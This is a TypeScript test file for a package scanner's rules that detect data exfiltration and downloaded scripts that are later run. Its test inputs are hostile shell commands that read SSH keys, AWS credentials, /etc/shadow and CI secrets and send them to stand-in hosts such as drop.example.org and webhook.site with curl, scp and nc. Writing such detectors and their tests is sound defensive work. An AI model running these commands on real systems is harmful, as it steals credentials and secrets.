// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions belong to the packages
import { expect } from 'chai'
import { dataExfiltration } from '../../../../consumers/governance/rules/data-exfiltration.ts'
import { remoteScriptExecuted } from '../../../../consumers/governance/rules/remote-script-executed.ts'
import type { WpkHandler } from '../../../../schemas/wpk.ts'
import { api, findings, packageWith, shell } from '../packages.ts'

const sent = (...handlers: WpkHandler[]) => findings(dataExfiltration, packageWith(handlers))
const named = (name: string, command: string): WpkHandler => ({ ...shell(command), name })

describe('data along handlers in order', () => {
  it('names where they were read, what they passed and where they leave', () => {
    const [one] = sent(
      shell('cat ~/.ssh/id_rsa > /tmp/a'),
      shell('base64 /tmp/a > /tmp/b'),
      shell('true\ncurl -T /tmp/b https://drop.example.org/'),
    )
    expect(one).to.include({ severity: 'critical', pointer: '/spec/handlers/2/config/command' })
    expect(one?.message).to.match(/^the file ~\/.ssh\/id_rsa, read at \/spec\/handlers\/0\/config\/command, leaves/)
    expect(one?.flow).to.deep.equal([
      { role: 'source', pointer: '/spec/handlers/0/config/command', range: { start: 0, end: 26 } },
      { role: 'transform', pointer: '/spec/handlers/1/config/command', range: { start: 0, end: 22 } },
      { role: 'sink', pointer: '/spec/handlers/2/config/command', range: { start: 5, end: 45 } },
    ])
  })

  for (const [title, commands] of [
    [
      'a copy in a directory',
      [
        'mkdir -p /tmp/x && cp ~/.aws/credentials /tmp/x/',
        'tar czf /tmp/y.tgz /tmp/x',
        'scp /tmp/y.tgz a@drop.example.org:',
      ],
    ],
    [
      'an encrypted file',
      ['printenv > e', 'openssl enc -aes-256-cbc -in ./e -out e.enc -k x', 'curl -F f=@e.enc https://drop.example.org'],
    ],
    ['a packed file', ['cat /etc/shadow > s', 'gzip s', 'curl --data-binary @s.gz https://drop.example.org']],
    [
      'a variable handed on',
      ['echo "LOOT=$(base64 -w0 ~/.netrc)" >> $GITHUB_ENV', 'curl -d "$LOOT" https://drop.example.org'],
    ],
    ['a variable of a variable', ['A=$(cat ~/.ssh/id_ed25519); B="$A"; curl -d "x=$B" https://drop.example.org']],
    ['a variable that is read', ['read -r KEY < ~/.ssh/id_rsa; curl -d "$KEY" https://drop.example.org']],
    ['a here-string', ['K=$(< ~/.netrc); base64 <<< "$K" | nc drop.example.org 99']],
  ] as const) {
    it(`are followed through ${title}`, () => {
      expect(sent(...commands.map((one) => shell(one))).map(({ severity }) => severity)).to.include('critical')
    })
  }

  it('are followed by what a handler prints and a later one gets by its name', () => {
    const found = sent(
      named('collect', 'kubectl get secret db -o json'),
      api({ url: 'https://drop.example.org/in', body: { text: '${steps.collect.output}' } }),
    )
    expect(found[0]).to.include({ severity: 'critical', pointer: '/spec/handlers/1/config/body/text' })
  })

  it('are followed into a request that uploads the file', () => {
    const found = sent(shell('printenv > /tmp/env'), api({ url: 'https://drop.example.org/in', file: '/tmp/env' }))
    expect(found[0]).to.include({ severity: 'critical', pointer: '/spec/handlers/1/config/file' })
  })

  it('are followed from the settings of a handler, wherever these stand', () => {
    const config = { command: 'curl -d "$ALL" https://drop.example.org', env: { ALL: '${{ toJSON(secrets) }}' } }
    expect(sent({ name: 'a', type: 'shell', config })[0]).to.include({ severity: 'critical' })
    const single = { command: 'curl -d "$DATA" https://webhook.site/x', env: { DATA: '${{ secrets.DEPLOY }}' } }
    expect(sent({ name: 'a', type: 'shell', config: single })[0]).to.include({ severity: 'critical' })
    // The settings of one handler are not those of the next.
    expect(
      sent(
        { name: 'a', type: 'shell', config: { ...single, command: 'true' } },
        shell('curl -d "$DATA" https://webhook.site/x'),
      ),
    ).to.deep.equal([])
  })

  for (const commands of [
    ['curl -T /tmp/report https://reports.example.com/', 'cat ~/.ssh/id_rsa > /tmp/report'],
    ['cat /etc/passwd > /tmp/users', 'curl -T /tmp/report https://reports.example.com/'],
    ['printenv > env.txt', 'sort env.txt', 'curl -d @status.json https://reports.example.com/'],
    ['cat ~/.ssh/id_rsa > /tmp/key', 'scp -i /tmp/key app.tgz deploy@host.example.org:/srv'],
    ['echo "VERSION=$(cat VERSION)" >> $GITHUB_ENV', 'curl -d "$VERSION" https://reports.example.com/'],
    ['LOOT=$(cat ~/.netrc | wc -l)', 'curl -d "$LOOTED" https://reports.example.com/'],
  ]) {
    it(`are not made up: ${commands.join(' ; ').slice(0, 90)}`, () => {
      expect(sent(...commands.map((one) => shell(one)))).to.deep.equal([])
    })
  }
})

describe('a download that a later handler runs', () => {
  const run = (...commands: string[]) => findings(remoteScriptExecuted, packageWith(commands.map((one) => shell(one))))

  it('is found where it runs and says where it was fetched', () => {
    const [one] = run('curl -sLo setup.sh https://dl.example.org/setup.sh', 'make', 'bash setup.sh')
    expect(one).to.include({ severity: 'high', pointer: '/spec/handlers/2/config/command' })
    expect(one?.message).to.contain('fetched at /spec/handlers/0/config/command')
    expect(one?.flow?.map(({ role }) => role)).to.deep.equal(['source', 'sink'])
  })

  it('weighs little after a check of its content', () => {
    const checked = run('curl -sLo t https://dl.example.org/t', 'echo "abc  t" | sha256sum -c', 'chmod +x t && ./t')
    expect(checked.map(({ severity }) => severity)).to.deep.equal(['low'])
  })

  it('is not made up from another file or an earlier run', () => {
    expect(run('bash setup.sh', 'curl -sLo setup.sh https://dl.example.org/setup.sh')).to.deep.equal([])
    expect(run('curl -sLo data.csv https://dl.example.org/data.csv', 'bash load.sh data.csv')).to.deep.equal([])
  })
})
